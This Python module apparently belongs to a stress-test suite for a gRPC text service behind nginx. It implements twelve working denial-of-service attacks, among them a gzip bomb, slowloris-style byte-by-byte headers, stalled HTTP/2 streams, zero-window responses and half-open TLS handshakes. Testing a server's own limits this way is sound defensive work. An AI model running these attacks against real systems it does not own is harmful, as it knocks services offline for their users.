# SPDX-License-Identifier: Apache-2.0

"""Attacks that hold what a server has few of: memory, connections, threads."""
import time
import zlib

import http2

TRANSLATE = "/sheaf.v1.TextService/Translate"
LIST_MODELS = "/sheaf.v1.ModelService/ListModels"
WATCH = "/grpc.health.v1.Health/Watch"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
# More than the 128 streams that nginx allows on a connection need more of these.
CONNECTIONS = 40


def open_streams(loop, make, total, count=CONNECTIONS, per_connection=1000, **options):
    """Keeps `total` streams open over at most `count` connections, as many on each as
    the server allows. make(connection) returns the frames of one. Opens at most
    `total` per second, so that refused ones do not become a flood."""
    held = {}
    began = time.monotonic()

    def feed(connection):
        held[connection] = len(connection.open)
        most = min(connection.max_streams, per_connection)
        is_early = loop.tally["streams"] >= total * (time.monotonic() - began)
        if is_early or sum(held.values()) >= total or held[connection] >= most:
            return b""
        held[connection] += 1
        return make(connection)
    loop.add(feed, count=count, **options)


def large_metadata(loop):
    """4,000 calls without an end whose metadata has 15 KiB, which is below the
    server's limit of 16 KiB."""
    extra = [(f"x-{i}", "v" * 200) for i in range(60)]
    block = http2.request_headers(TRANSLATE, extra)
    open_streams(loop, lambda connection: connection.start(block, ends=False), 4000)


def gzip_bomb(loop):
    """A message of 398 KiB that inflates to 400 MiB, again and again."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    mebibyte = bytes(1 << 20)
    packed = b"".join(packer.compress(mebibyte) for _ in range(400)) + packer.flush()
    message = http2.grpc_message(packed, is_compressed=True)
    block = http2.request_headers(
        TRANSLATE, (("grpc-encoding", "gzip"), *loop.authorization()))
    send_slowly(loop, block, message, streams=4, ends=True)


def unfinished_messages(loop):
    """Messages of 6 MiB on 200 streams, each without its last byte."""
    message = http2.grpc_message(bytes(6 << 20))[:-1]
    block = http2.request_headers(TRANSLATE, loop.authorization())
    send_slowly(loop, block, message, streams=100, ends=False)


def send_slowly(loop, block, message, streams, ends):
    """Sends the message on many streams, as far as the windows allow."""
    largest = 16384

    def feed(connection):
        connection.store = left = connection.store or {}
        if len(left) < streams and len(connection.open) < min(connection.max_streams, streams):
            left[connection.next_stream] = 0
            return connection.start(block, ends=False)
        for stream in list(left):
            if stream not in connection.open:
                del left[stream]
                continue
            at = left[stream]
            size = min(largest, len(message) - at, connection.window,
                       connection.windows[stream])
            if size > 0:
                left[stream] = at + size
                is_last = ends and at + size == len(message)
                return connection.data(stream, message[at:at + size], is_last)
        return b""
    loop.add(feed)


def idle_connections(loop):
    """4,096 connections that do nothing except answer pings."""
    loop.add(count=4096)


def connections_at_limit(loop):
    """Connections beyond the limit, from 8 addresses, again and again."""
    loop.add(count=4096 + 256)


def reflection_streams(loop):
    """5,000 calls of reflection that stay open."""
    block = http2.request_headers(REFLECTION)
    open_streams(loop, lambda connection: connection.start(block, ends=False), 5000)


def health_watches(loop):
    """5,000 calls that watch the health."""
    block = http2.request_headers(WATCH)
    message = http2.grpc_message(b"")
    open_streams(loop, lambda connection: connection.start(block, message), 5000)


def unread_answers(loop):
    """2,000 answers that the window of 0 does not let through."""
    block = http2.request_headers(LIST_MODELS, loop.authorization())
    message = http2.grpc_message(b"")
    open_streams(loop, lambda connection: connection.start(block, message), 2000,
                 settings={http2.INITIAL_WINDOW_SIZE: 0})


def slow_messages(loop):
    """2,000 calls that open and send no message."""
    block = http2.request_headers(TRANSLATE, loop.authorization())
    open_streams(loop, lambda connection: connection.start(block, ends=False), 2000)


def slow_headers(loop):
    """500 connections that send a header block byte by byte."""
    block = http2.request_headers(TRANSLATE, [("x-slow", "v" * 4000)])
    begin = http2.PREFACE + http2.settings_frame({}) + (
        http2.frame(http2.HEADERS, http2.END_HEADERS, 1, block))

    def feed(connection):
        at = connection.store or 0
        size = len(begin) - len(block) if at == 0 else 1
        if at >= len(begin) or len(connection.out) > 0:
            return b""
        connection.store = at + size
        return begin[at:at + size]
    loop.add(slow(feed), count=500, speaks=False)


def slow(feed):
    """A feed that sends one piece per turn of the loop."""
    last = {}

    def one(connection):
        is_due = last.get(connection) != connection.loop.now
        last[connection] = connection.loop.now
        return feed(connection) if is_due else b""
    return one


def handshakes(loop):
    """1,000 connections that begin a TLS handshake and never finish it."""
    # A record that announces a ClientHello of 512 bytes, and its first 6 bytes.
    begin = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"

    def feed(connection):
        if connection.store:
            return b""
        connection.store = True
        return begin
    loop.add(feed, count=1000, speaks=False, with_tls=False)


def handshake_flood(loop):
    """Whole TLS handshakes, each of which costs the server a signature."""
    loop.add(count=64, speaks=False, leaves=True)


ATTACKS = (large_metadata, gzip_bomb, unfinished_messages, idle_connections, connections_at_limit,
           reflection_streams, health_watches, unread_answers, slow_messages,
           slow_headers, handshakes, handshake_flood)
